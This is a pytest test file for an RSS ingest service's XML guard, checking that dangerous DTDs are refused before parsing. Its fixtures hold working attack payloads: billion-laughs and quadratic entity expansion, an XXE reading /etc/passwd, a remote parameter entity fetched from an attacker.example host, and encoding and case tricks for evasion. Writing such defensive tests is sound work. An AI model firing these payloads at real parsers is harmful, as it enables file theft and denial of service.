import pytest

from services.ingest.parse.document import parse_document
from services.ingest.parse.model import ParseError, ParseErrorKind
from services.ingest.parse.xml_guard import refuse_dangerous_entities

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><item><title>&lol3;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>"""

PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "' + b"A" * 50_000 + b'">]>'
             b'<rss version="2.0"><channel><item><title>' + b"&big;" * 100 + b"</title></item></channel></rss>")

HARMLESS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY copy "&#169;">
<!ENTITY org "Ministry of Defence">
]>
<rss version="2.0"><channel><title>t</title>
<item><title>Statement &org; &copy; 2020</title><link>https://mod.example/1</link></item>
</channel></rss>"""


@pytest.mark.parametrize("document, reason", [
    (BILLION_LAUGHS, "refers to other entities"),
    (XXE, "external entity"),
    (PARAMETER, "parameter entity"),
    (QUADRATIC, "expand past"),
    (BILLION_LAUGHS.decode().encode("utf-16"), "refers to other entities"),
    (XXE.replace(b"ENTITY", b"entity"), "external entity"),
])
def test_dangerous_dtds_are_refused_before_parsing(document, reason):
    with pytest.raises(ParseError) as caught:
        parse_document("rss", document)
    assert caught.value.kind is ParseErrorKind.XML_ENTITIES and reason in caught.value.message


def test_plain_internal_entities_pass_and_expand():
    refuse_dangerous_entities(HARMLESS)
    feed = parse_document("rss", HARMLESS)
    assert feed.entries[0].title == "Statement Ministry of Defence © 2020"


def test_too_many_declarations_are_refused():
    many = b"<!DOCTYPE rss [" + b"".join(b'<!ENTITY e%d "x">' % i for i in range(100)) + b"]><rss/>"
    with pytest.raises(ParseError, match="entity declarations"):
        refuse_dangerous_entities(many)


def test_documents_using_only_predefined_entities_pass():
    document = (b'<rss version="2.0"><channel><title>t</title>'
                b"<item><title>Tanks &amp; artillery &lt;updated&gt;</title></item></channel></rss>")
    assert refuse_dangerous_entities(document) is None
    assert parse_document("rss", document).entries[0].title == "Tanks & artillery <updated>"
